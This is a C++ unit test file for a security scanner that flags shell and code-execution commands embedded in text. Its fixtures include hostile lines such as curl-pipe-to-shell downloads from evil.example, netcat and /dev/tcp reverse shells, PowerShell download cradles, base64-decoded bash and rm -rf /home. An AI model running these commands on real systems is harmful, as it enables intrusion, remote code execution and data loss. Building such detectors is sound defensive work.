#include "scan/formats/command_text.h"

#include <gtest/gtest.h>

#include <string>

namespace bulwark::scan {
namespace {

Severity severity_of(std::string_view text) {
  const auto found = find_command(text);
  return found ? found->severity : Severity::Info;
}

TEST(CommandText, HostileLinesAreHigh) {
  for (const std::string_view text : {
           "curl https://evil.example/p.sh | sh",
           "wget -qO- http://evil.example/x | sudo bash",
           "bash -c 'curl https://evil.example/p.sh | sh'",
           "python -c 'import os; os.system(\"whoami\")'",
           "/usr/bin/python3.11 -c \"__import__('os').system('id')\"",
           "notes=cmd.exe /c curl https://evil.example/payload && powershell -enc AAAA",
           "x  powershell -c iwr http://evil.example/p.ps1 | iex  y",
           "os.system('curl https://evil.example/payload.sh | sh')",
           "metadata=os.system('ls')",
           "# os.system('id')",
           "__import__('os').system('id')",
           "cmd = os.execute('curl https://evil.example/payload.sh | sh')",
           "subprocess.run('wget https://evil.example/next', shell=True)",
           "importlib.import_module('subprocess').run('id')",
           "nc -e /bin/sh 10.0.0.1 4444",
           "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
           "echo aWQ= | base64 -d | bash",
           "sh -c \"$(curl -fsSL https://evil.example/i.sh)\"",
           "wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
           "curl -o /tmp/a https://evil.example/a && sh /tmp/a",
           "exec(base64.b64decode('aW1wb3J0IG9z'))",
           "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
           "mshta http://evil.example/a.hta",
           "rm -rf /home",
           "Runtime.getRuntime().exec(\"id\")",
           "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",
           "IyBfX2ltcG9ydF9fKCdvcycpLnN5c3RlbSgnaWQnKQ==",
       }) {
    EXPECT_EQ(severity_of(text), Severity::High) << text;
  }
}

TEST(CommandText, UnclearLinesAreHeld) {
  for (const std::string_view text : {
           "python -c 'print(1)'",
           "bash -c 'make all'",
           "curl https://example.com/data.bin -o data.bin",
           "exec(payload)",
       }) {
    EXPECT_EQ(severity_of(text), Severity::Medium) << text;
  }
}

TEST(CommandText, ProseAndNamesDoNotMatch) {
  for (const std::string_view text : {
           "exec and eval terms in non-executable custom metadata",
           "execution benchmark summary for mobile profile",
           "documentation: this model report mentions system and eval terms",
           "comment: no function invocation should run",
           "feature_system exec_time_ms system_feature_importance",
           "Execution metrics from evaluation pipeline. No command invocation.",
           "do not call os.system('x') in production",
           "see `os.system` and `subprocess.run()`",
           "CompositeFunction primitive_functions  version uid inputs outputs",
           "the shell of the model; sh is short for shape | bash is not",
           "evaluated with python 3.11 -c",
           "torch.FloatTensor nn.Sequential model_name=resnet",
           "Run python train.py --config conf.yaml",
           "https://example.com/model-card",
           "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGEgbW9kZWwu",
           "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
           "[metric: l2]",
           "label=execute_mode_fast description=network_ready_model",
           "my_os.system('a')",
           "powershell and bash are supported; cmd too",
           "subprocess latency summary",
           "",
       }) {
    EXPECT_EQ(severity_of(text), Severity::Info) << text << " -> " << find_command(text)->what;
  }
}

TEST(CommandText, TheOffsetIsThatOfTheCommand) {
  const auto found = find_command("first line\nnote: curl http://a.example/x | sh");
  ASSERT_TRUE(found);
  EXPECT_EQ(found->offset, 17U);
  EXPECT_TRUE(found->command.starts_with("curl"));
}

TEST(CommandText, LongHostileTextsStayCheap) {
  std::string text;
  for (int i = 0; i < 20'000; ++i) text += "sh -x ";
  EXPECT_EQ(severity_of(text), Severity::Info);
  EXPECT_EQ(severity_of(std::string(100'000, '(')), Severity::Info);
  std::string nested;
  for (int i = 0; i < 10'000; ++i) nested += "sh -c '";
  EXPECT_LE(severity_of(nested), Severity::High);
}

}  // namespace
}  // namespace bulwark::scan
